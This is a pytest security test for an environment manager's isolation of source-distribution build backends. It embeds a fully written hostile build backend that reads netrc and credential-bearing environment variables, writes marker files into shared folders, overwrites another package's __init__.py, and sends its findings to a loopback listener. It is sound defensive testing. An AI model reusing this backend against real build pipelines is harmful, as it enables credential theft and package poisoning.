"""Package code at lock and build: a hostile sdist gets no network, no credentials and nothing shared.

A source distribution's build backend is the package's own code. This one, when it runs, tries what the
issue found worked: it sends what it finds to a port on the host's loopback, reads the mirror credentials
(the netrc a step mounts, any URL in its environment), and writes into every folder under /opt/envmgr it
may (the shared uv cache, the shared install prefix), rewriting any `envmgr_beta/__init__.py` it finds: a
file of a distribution another method shares. The index serves it behind a user and a password.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import socket
import tarfile
import threading
import tomllib
import uuid
from pathlib import Path

import pytest
import tomli_w

from tests.support.pypi import Index, build_wheel

pytestmark = pytest.mark.engine

BACKEND = '''
import base64, hashlib, json, os, socket, zipfile

PORT = {port}
MARK = "{mark}"


def attack(stage):
    found = {{"stage": stage, "uid": os.getuid(), "secrets": [], "written": []}}
    for path in (os.environ.get("NETRC", ""), "/opt/envmgr/netrc"):
        try:
            found["secrets"].append(open(path).read())
        except OSError:
            pass
    found["secrets"] += [f"{{k}}={{v}}" for k, v in os.environ.items() if "@" in v or "NETRC" in k]
    for dirpath, _dirs, files in os.walk("/opt/envmgr"):
        try:
            with open(os.path.join(dirpath, "pwned-" + MARK), "w") as fh:
                fh.write(stage)
            found["written"].append(dirpath)
        except OSError:
            pass
        if dirpath.endswith("envmgr_beta") and "__init__.py" in files:
            try:
                with open(os.path.join(dirpath, "__init__.py"), "w") as fh:
                    fh.write('NAME = "poisoned"\\n')
                found["written"].append(dirpath + "/__init__.py")
            except OSError:
                pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as sock:
            sock.sendall(json.dumps(found).encode())
        found["sent"] = True
    except OSError as exc:
        found["sent"] = repr(exc)
    return found


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    found = attack("build_wheel")
    files = {{
        "hostile/__init__.py": ("FINDINGS = " + repr(json.dumps(found)) + "\\n").encode(),
        "hostile-0.1.dist-info/METADATA": b"Metadata-Version: 2.1\\nName: hostile\\nVersion: 0.1\\n"
                                          b"Requires-Dist: envmgr-beta==1.1\\n",
        "hostile-0.1.dist-info/WHEEL": b"Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\n"
                                       b"Tag: py3-none-any\\n",
    }}
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{{path}},sha256={{digest}},{{len(data)}}")
    files["hostile-0.1.dist-info/RECORD"] = ("\\n".join(record + ["hostile-0.1.dist-info/RECORD,,"]) + "\\n").encode()
    name = "hostile-0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as zf:
        for path, data in files.items():
            zf.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), data)
    return name
'''

PYPROJECT = b"""\
[build-system]
requires = []
build-backend = "hostile_backend"
backend-path = ["."]
"""

PIP_SPEC = """\
name = "{name}"
description = "fixture method"
backend = "pip"
entry = ["python", "main.py"]
gpu = "none"
"""

POETRY_SPEC = PIP_SPEC.replace('backend = "pip"', 'backend = "poetry"')

POETRY_PYPROJECT = """\
[project]
name = "hostile-poetry"
version = "0.1.0"
requires-python = ">=3.11,<3.12"
dependencies = ["hostile==0.1"]

[tool.poetry]
package-mode = false
"""


class Listener:
    """A TCP port on 127.0.0.1 that keeps whatever anyone sends it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                chunks = []
                while chunk := conn.recv(65536):
                    chunks.append(chunk)
                self.received.append(b"".join(chunks) or b"(connected)")

    def close(self) -> None:
        self.sock.close()


def _sdist(root: Path, port: int, mark: str) -> Path:
    data = io.BytesIO()
    members = {
        "hostile-0.1/pyproject.toml": PYPROJECT,
        "hostile-0.1/hostile_backend.py": BACKEND.format(port=port, mark=mark).encode(),
        # metadata 2.1 without Requires-Dist: no resolver can take its dependencies without running the backend
        "hostile-0.1/PKG-INFO": b"Metadata-Version: 2.1\nName: hostile\nVersion: 0.1\n",
    }
    with tarfile.open(fileobj=data, mode="w:gz") as tf:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            info.mtime = 1577836800
            tf.addfile(info, io.BytesIO(body))
    path = root / "hostile-0.1.tar.gz"
    path.write_bytes(data.getvalue())
    return path


def _method(workspace, name: str, spec: str, files: dict[str, str]) -> Path:
    folder = workspace.base_dir / "methods" / name
    folder.mkdir(parents=True)
    (folder / "envmgr.toml").write_text(spec.format(name=name))
    for file_name, text in files.items():
        (folder / file_name).write_text(text)
    return folder


def _pwned(roots: list[Path], mark: str) -> list[str]:
    return [str(p) for root in roots if root.exists() for p in root.rglob(f"pwned-{mark}")]


def test_sdist_build_backend_gets_no_network_no_credentials_and_nothing_shared(workspace, engine, tmp_path):
    token = "tok" + uuid.uuid4().hex
    mark = uuid.uuid4().hex[:12]
    listener = Listener()
    root = tmp_path / "index"
    build_wheel(root, "envmgr-alpha", "1.0", requires=["envmgr-beta>=1.0"],
                body='from envmgr_beta import NAME\nGREETING = "alpha+" + NAME\n')
    build_wheel(root, "envmgr-beta", "1.1", body='NAME = "beta-1.1"\n')
    sdist = _sdist(root, listener.port, mark)
    index = Index(root, username="builder", password=token, sdists=True).start()
    problems: list[str] = []
    printed: list[str] = []

    def envmgr(*args: str, check: bool = True):
        proc = workspace.envmgr(*args, mirror=index.url, check=check)
        printed.append(proc.stdout + proc.stderr)
        return proc

    try:
        _method(workspace, "innocent", PIP_SPEC, {
            "requirements.txt": "envmgr-alpha==1.0\nenvmgr-beta==1.1\n",
            "main.py": "import envmgr_alpha\nprint('GREETING', envmgr_alpha.GREETING)\n"})
        envmgr("lock", "innocent")
        envmgr("build", "innocent")
        innocent_id = engine.images.get("envmgr/innocent:latest").id

        hostile = _method(workspace, "hostile", PIP_SPEC, {
            "requirements.txt": "hostile==0.1\nenvmgr-beta==1.1\n",
            "main.py": "import hostile\nprint('FINDINGS', hostile.FINDINGS)\n"})
        _method(workspace, "hostile-poetry", POETRY_SPEC, {"pyproject.toml": POETRY_PYPROJECT, "main.py": "print(1)\n"})

        # by default: wheels only; the lock fails naming the package and how to allow it, and nothing ran
        for method in ("hostile", "hostile-poetry"):
            refused = envmgr("lock", method, check=False)
            if refused.returncode == 0 or not re.search(r"hostile(==0\.1)? has only a source distribution",
                                                        refused.stderr) \
                    or 'build_from_source = ["hostile"]' not in refused.stderr:
                problems.append(f"{method}: lock by default was not refused by name: exit {refused.returncode}, "
                                f"{refused.stderr[-600:]!r}")
        if listener.received:
            problems.append(f"by default the backend reached the host's loopback: {listener.received[:1]!r}")
        if _pwned([workspace.cache_dir, workspace.base_dir], mark):
            problems.append(f"by default the backend wrote {_pwned([workspace.cache_dir, workspace.base_dir], mark)}")

        # allowed by name: built in the box at lock and again at build (its built wheel forgotten in between)
        spec = tomllib.loads((hostile / "envmgr.toml").read_text())
        spec["adapt"] = {"build_from_source": ["hostile"]}
        (hostile / "envmgr.toml").write_text(tomli_w.dumps(spec))
        locked = envmgr("lock", "hostile", check=False)
        lock = hostile / "requirements.lock.txt"
        if locked.returncode != 0 or not lock.is_file():
            problems.append(f"lock with build_from_source failed: {locked.stderr[-600:]!r}")
        else:
            text = lock.read_text()
            sdist_hash = hashlib.sha256(sdist.read_bytes()).hexdigest()
            entry = text.split("hostile==0.1", 1)[1].split("\n\n", 1)[0] if "hostile==0.1" in text else ""
            if f"--hash=sha256:{sdist_hash}" not in entry or entry.count("--hash=") != 1:
                problems.append(f"the lock does not pin hostile to its sdist's hash alone: {entry!r}")
        for built in (workspace.cache_dir / "built").glob("*"):
            shutil.rmtree(built)
        built = envmgr("build", "hostile", check=False)
        if built.returncode != 0:
            problems.append(f"build with build_from_source failed: {built.stderr[-600:]!r}")
        else:
            ran = envmgr("-v", "run", "hostile", "--gpus", "none", check=False)
            line = next((ln for ln in (ran.stdout + ran.stderr).splitlines() if "FINDINGS " in ln), None)
            findings = json.loads(line.split("FINDINGS ", 1)[1]) if line else None
            if findings is None:
                problems.append(f"the hostile method's findings were not printed: {ran.stderr[-400:]!r}")
            else:
                if findings["secrets"]:
                    problems.append(f"the box could read credentials: {findings['secrets']}")
                if findings["sent"] is True:
                    problems.append("the box reached the network")
                if findings["uid"] == 0:
                    problems.append("the box ran as root")
                if findings["stage"] != "build_wheel":
                    problems.append(f"the backend did not run where expected: {findings}")
                shared = [p for p in findings["written"] if not p.startswith("/opt/envmgr/out")]
                if shared:
                    problems.append(f"the box wrote outside its output folder: {shared}")
        # poetry reads the allowed package's metadata from the wheel built in the box (at its [adapt] pin)
        poetry_spec = workspace.base_dir / "methods" / "hostile-poetry" / "envmgr.toml"
        spec = tomllib.loads(poetry_spec.read_text())
        spec["adapt"] = {"build_from_source": ["hostile"], "pin": {"hostile": "0.1"}}
        poetry_spec.write_text(tomli_w.dumps(spec))
        locked = envmgr("lock", "hostile-poetry", check=False)
        poetry_lock = poetry_spec.parent / "poetry.lock"
        if locked.returncode != 0 or 'name = "envmgr-beta"' not in (poetry_lock.read_text() if poetry_lock.is_file()
                                                                     else ""):
            problems.append(f"poetry lock with build_from_source failed or lost the built wheel's dependencies: "
                            f"{locked.stderr[-600:]!r}")
        elif envmgr("build", "hostile-poetry", check=False).returncode != 0:
            problems.append(f"poetry build with build_from_source failed: {printed[-1][-600:]!r}")
        if listener.received:
            problems.append(f"the backend reached the host's loopback: {listener.received[:1]!r}")
        if _pwned([workspace.cache_dir, workspace.base_dir], mark):
            problems.append(f"the backend wrote {_pwned([workspace.cache_dir, workspace.base_dir], mark)}")

        # the other method, made again from the shared uv cache (not from the layer store), is the same image
        engine.images.remove(innocent_id, force=True)   # every tag: a build with nothing changed re-tags
        for stored in ("store", "layers"):
            shutil.rmtree(workspace.cache_dir / stored, ignore_errors=True)
        rebuilt = envmgr("build", "innocent", check=False)
        if rebuilt.returncode != 0:
            problems.append(f"the innocent method no longer builds from the shared cache: {rebuilt.stderr[-300:]!r}")
        elif engine.images.get("envmgr/innocent:latest").id != innocent_id:
            problems.append("the innocent method's image changed after the hostile method's lock and build")
        else:
            ran = envmgr("-v", "run", "innocent", "--gpus", "none")
            if "GREETING alpha+beta-1.1" not in ran.stdout + ran.stderr:
                problems.append(f"the innocent method runs something else: {(ran.stdout + ran.stderr)[-300:]!r}")
    finally:
        index.stop()
        listener.close()
    assert problems == [], "\n".join(problems)
